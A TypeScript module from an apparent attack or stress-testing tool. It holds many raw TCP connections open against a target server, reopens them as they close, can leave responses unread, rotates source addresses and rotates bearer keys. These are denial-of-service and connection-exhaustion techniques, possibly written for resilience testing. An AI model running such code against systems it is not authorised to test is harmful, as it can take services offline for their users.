/** Keeps a number of raw connections to a plane open. A connection that closes is opened again. */
import { connect, type Socket } from 'node:net';
import type { AttackTarget } from './attack.ts';

/** The pause before a closed connection is opened again, in ms. */
const AGAIN_MS = 500;

/**
 * @param speak sends on a new connection; the function that it returns is called when the connection closes
 * @param isRead true if the attacker reads the answers of the plane
 */
export async function keepOpen(
  { url, addresses }: AttackTarget,
  until: AbortSignal,
  {
    many,
    speak,
    isRead = true,
  }: {
    many: number;
    speak: (socket: Socket, nth: number) => (() => void) | undefined;
    isRead?: boolean;
  },
): Promise<void> {
  const { hostname, port } = new URL(url);
  const open = new Set<Socket>();
  const dial = (nth: number) => {
    if (until.aborted) return;
    const localAddress = addresses?.[nth % addresses.length];
    const socket = connect({ port: Number(port), host: hostname, ...(localAddress && { localAddress }) });
    open.add(socket);
    let stop: (() => void) | undefined;
    if (isRead) socket.resume();
    else socket.pause();
    socket.on('error', () => {});
    socket.once('connect', () => {
      stop = speak(socket, nth);
    });
    socket.once('close', () => {
      open.delete(socket);
      stop?.();
      setTimeout(dial, AGAIN_MS, nth);
    });
  };
  for (let nth = 0; nth < many; nth += 1) dial(nth);
  // This timer keeps the process running, because sockets that do not read do not.
  const alive = setInterval(() => {}, AGAIN_MS);
  await new Promise((resolve) => {
    if (until.aborted) resolve(null);
    else until.addEventListener('abort', resolve, { once: true });
  });
  clearInterval(alive);
  for (const socket of open) socket.destroy();
}

export function keyOf({ keys }: AttackTarget, nth: number): string {
  return `authorization: Bearer ${keys[nth % keys.length]}\r\n`;
}
